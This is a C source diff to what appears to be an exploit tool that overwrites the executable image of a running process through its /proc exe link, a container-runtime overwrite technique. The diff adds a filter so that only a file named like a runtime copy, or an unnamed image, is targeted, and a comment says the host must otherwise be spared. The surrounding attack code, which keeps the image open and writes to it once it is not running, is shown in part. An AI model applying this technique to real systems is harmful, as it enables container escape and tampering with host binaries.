@@ -150,6 +150,21 @@ static bool is_program_of_ours(const struct stat *s)
 	return false;
 }
 
+/*
+ * Whether the image is the runtime under attack: its copy by name, or something that has no name here. Where the host's
+ * processes are seen, nothing else of the host may be harmed.
+ */
+static bool is_the_target(const char *link)
+{
+	char name[300];
+	ssize_t len = readlink(link, name, sizeof(name) - 1);
+
+	if (len < 0)
+		return false;
+	name[len] = '\0';
+	return strstr(name, "/runtime-copy") || strcmp(name, "/") == 0;
+}
+
 /* Keeps the image open and writes to it as soon as nobody runs it. */
 static void overwrite_image(int image)
 {
@@ -180,7 +195,7 @@ static void try_overwrite(const char *pid)
 	int image = open(path, O_PATH | O_CLOEXEC);
 	if (image < 0)
 		return;
-	if (fstat(image, &s) == 0 && !is_program_of_ours(&s)) {
+	if (fstat(image, &s) == 0 && !is_program_of_ours(&s) && is_the_target(path)) {
 		printf("seen %lx:%lu\n", (unsigned long)s.st_dev, (unsigned long)s.st_ino);
 		overwrite_image(image);
 	}
